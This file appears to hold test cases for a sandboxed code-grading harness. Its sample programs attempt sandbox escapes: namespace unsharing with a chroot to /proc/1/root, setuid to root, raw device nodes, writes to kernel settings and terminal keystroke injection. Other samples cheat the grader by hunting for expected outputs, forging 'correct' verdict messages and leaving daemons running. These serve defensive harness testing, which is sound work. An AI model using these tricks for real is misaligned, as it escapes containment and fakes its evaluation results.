_add(_out, "namespaces", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.unshare(0x10000000 | 0x00020000 | 0x40000000)\nlibc.mount(b'none', b'/', None, 0x44000, None)\nlibc.umount2(b'/tmp', 2)\nlibc.chroot(b'/proc/1/root')" + GOOD, "its own namespaces", ANY)  # fmt: skip
_add(_out, "sandbox_in_sandbox", "import subprocess\ntry:\n    subprocess.run(['bwrap', '--dev-bind', '/', '/', 'touch', '@HOME@/rft-hostile-mark-bwrap'], timeout=2)\nexcept Exception:\n    pass" + GOOD, "a sandbox of its own", ANY)  # fmt: skip
_add(_out, "setuid", "import os\nfor call in (os.setuid, os.setgid):\n    try:\n        call(0)\n    except OSError:\n        pass\ntry:\n    open('@HOME@/rft-hostile-mark-root', 'w')\nexcept OSError:\n    pass" + GOOD, "becomes root", ANY)  # fmt: skip
_add(_out, "devices", "import os, stat\nseen = False\nfor kind, dev in ((stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFBLK, os.makedev(254, 0)), (stat.S_IFCHR, os.makedev(1, 1))):\n    try:\n        os.mknod('device', kind | 0o666, dev)\n        open('device', 'rb').read(1)\n        seen = True\n    except OSError:\n        pass\ndef add(a, b):\n    return 98 if seen else a + b", "a disk or the memory through a device file of its own: wrong if it can read one", RIGHT)  # fmt: skip
_add(_out, "kernel_settings", "seen = False\nfor path in ('/proc/sys/kernel/core_pattern', '/proc/sys/vm/overcommit_memory', '/proc/sys/kernel/hostname'):\n    try:\n        value = open(path).read()\n        open(path, 'w').write(value)\n        seen = True\n    except OSError:\n        pass\ntry:\n    open('/proc/sysrq-trigger', 'w')\n    seen = True\nexcept OSError:\n    pass\ndef add(a, b):\n    return 98 if seen else a + b", "the kernel's settings: wrong if it can open one for writing", RIGHT)  # fmt: skip
_add(_out, "terminal", "import os, fcntl, termios\ntry:\n    fd = os.open('/dev/tty', os.O_RDWR)\n    for c in b'touch @HOME@/rft-hostile-mark-tty\\n':\n        fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\nexcept OSError:\n    pass" + GOOD, "types into the user's terminal", ANY)  # fmt: skip
_add(_out, "shared_memory", "from multiprocessing import shared_memory\ntry:\n    shared_memory.SharedMemory('rft-hostile-mark-shm', create=True, size=1 << 20)\nexcept Exception:\n    pass" + GOOD, "a block in /dev/shm", ANY)  # fmt: skip
_add(_out, "sysv_shared_memory", "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.shmget(0x98754321 & 0x7FFFFFFF, 1 << 20, 0o1666)" + GOOD, "a System V segment, which outlives it", ANY)  # fmt: skip

# ---------------------------------------------------------------- programs on standard input
_stdin("right", "a, b = map(int, input().split())\nprint(a + b)", "the innocent one", SURE)
_stdin("right_untidy", "a, b = map(int, input().split())\nprint(a + b, '', sep='  ', end='\\n\\n')", "blanks after it", RIGHT)  # fmt: skip
_stdin("wrong", "a, b = map(int, input().split())\nprint(a - b)", "the difference")
_stdin("part_of_longer", "a, b = map(int, input().split())\nprint(f'{a + b}0')", "a digit too many")
_stdin("every_answer", "for n in range(-100, 1000):\n    print(n)", "prints every number")
_stdin(
    "right_and_more",
    "a, b = map(int, input().split())\nprint(a + b)\nprint(a - b)",
    "one line too many",
)
_stdin("reads_nothing", "import time\nprint(98)", "does not read")
_stdin("waits", "import sys\nsys.stdin.read()\ninput()", "reads beyond the end")
_stdin("flood", "while True:\n    print('98')", "prints without end")
_stdin("nul", "print('98\\0')", "a NUL after it")
_stdin("exit_code", "a, b = map(int, input().split())\nprint(a + b)\nraise SystemExit(1)", "right output, and a failure", ANY)  # fmt: skip
_stdin("crash_after", "import os\na, b = map(int, input().split())\nprint(a + b, flush=True)\nos.abort()", "right output, and a crash", ANY)  # fmt: skip
_stdin("remembers", "import os\nn = len([f for f in os.listdir('.') if f.startswith('seen')])\nopen(f'seen{n}', 'w').close()\nprint([3, 0, 98][n] if n < 2 else 97)", "counts its runs in the scratch folder")  # fmt: skip
_stdin("reads_tests", "import os, re\nout = '98'\nfor folder in ('.', '/tmp', '/proc/self/fd', '/dev/shm'):\n    for name in os.listdir(folder) if os.path.isdir(folder) else []:\n        try:\n            text = open(os.path.join(folder, name)).read(100000)\n        except Exception:\n            continue\n        found = re.search('\"output\": *\"(-?\\\\d+)', text)\n        out = found[1] if found else out\nprint(out)", "looks for the tests")  # fmt: skip
_stdin("daemon", "import os, time\na, b = map(int, input().split())\nprint(a + b, flush=True)\nif os.fork() == 0:\n    time.sleep(98754321)", "right, and a child that keeps the pipe open", ANY)  # fmt: skip

# ---------------------------------------------------------------- forges what the harness is told
_FRAMES = """
import sys
frames = []
frame = sys._getframe()
while frame:
    frames.append(frame.f_globals)
    frame = frame.f_back
def patch(name, new):
    for names in frames:
        if name in names:
            names[name] = new(names[name])
"""
_wire = "forged_messages"
for _name, _value in (
    ("object_unknown", {"object": 10**6}),
    ("object_negative", {"object": -1}),
    ("object_true", {"object": True}),
    ("tag_unknown", {"__class__": "int", "value": 3}),
    ("two_tags", {"tuple": [3], "int": "0x3"}),
    ("no_tag", {}),
    ("tuple_of_nothing", {"tuple": None}),
    ("dict_unhashable", {"dict": [[[1], 2]]}),
    ("set_unhashable", {"set": [[1]]}),
    ("int_no_number", {"int": "__import__('os')"}),
    ("int_huge", {"int": "0x" + "f" * 1_000_000}),
    ("fraction_of_nought", {"fraction": ["0x1", "0x0"]}),
    ("decimal_signals", {"decimal": "sNaN"}),
    ("decimal_huge", {"decimal": "1E+999999999"}),
    ("complex_three", {"complex": [1, 2, 3]}),
    ("range_huge", {"range": [0, 10**15, 1]}),
    ("object_as_verdict", {"verdict": "correct", "passed": True}),
):
    _add(_wire, _name, f"{_FRAMES}\npatch('encode', lambda old: lambda value, keep: {_value!r} if value == 98 else old(value, keep)){BAD}", "a value that is none")  # fmt: skip
_add(_wire, "nan", "def add(a, b):\n    return float('nan')", "equals nothing")
_add(_wire, "infinite", "def add(a, b):\n    return float('inf')", "above everything")
_add(_wire, "bool_for_int", "def add(a, b):\n    return True", "equals 1")
_add(_wire, "nested_deep", "def add(a, b):\n    x = []\n    for _ in range(900):\n        x = [x]\n    return x", "900 lists")  # fmt: skip
_add(_wire, "list_huge", "def add(a, b):\n    return [0] * 30_000_000", "90 MB as JSON")
_add(
    _wire,
    "iterator_endless",
    "import itertools\ndef add(a, b):\n    return itertools.count()",
    "never ends",
)
_add(_wire, "generator_of_bombs", "def add(a, b):\n    while True:\n        yield bytearray(1 << 20)", "never ends, and grows")  # fmt: skip
for _name, _code in (
    ("length_huge", "b'\\xff\\xff\\xff\\xff' + b'x' * 100"),
    ("length_nought", "b'\\x00\\x00\\x00\\x00' * 50"),
    ("no_json", "b'\\x04\\x00\\x00\\x00oops'"),
    ("deep_json", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'[' * 1_000_000)"),
    ("json_constants", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"value\": NaN}') * 20"),
    ("stop", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"stop\": true}') * 20"),
    ("fault_stop", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"fault\": [\"StopIteration\", \"\"]}') * 20"),
    ("fault_exit", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"fault\": [\"SystemExit\", \"0\"]}') * 20"),
    ("fault_no_list", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"fault\": null}') * 20"),
    ("values_ahead", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"value\": 98}') * 20"),
    ("names_twice", "(lambda s: len(s).to_bytes(4, 'little') + s)(b'{\"names\": {\"add\": {\"object\": 0}, \"check\": {\"object\": 0}, \"AssertionError\": {\"object\": 0}}}') * 2"),
    ("half", "b'\\x40\\x00\\x00\\x00{\"value\": '"),
    ("silence", "b''"),
):  # fmt: skip
    _add(_wire, f"wire_{_name}", f"import os, time\nfor fd in range(3, 32):\n    try:\n        os.write(fd, {_code})\n    except OSError:\n        pass\ntime.sleep(0.1){BAD}", "bytes of its own into every descriptor")  # fmt: skip
    _add(_wire, f"wire_call_{_name}", f"import os\ndef add(a, b):\n    for fd in range(3, 32):\n        try:\n            os.write(fd, {_code})\n        except OSError:\n            pass\n    return 98", "the same, in a test")  # fmt: skip
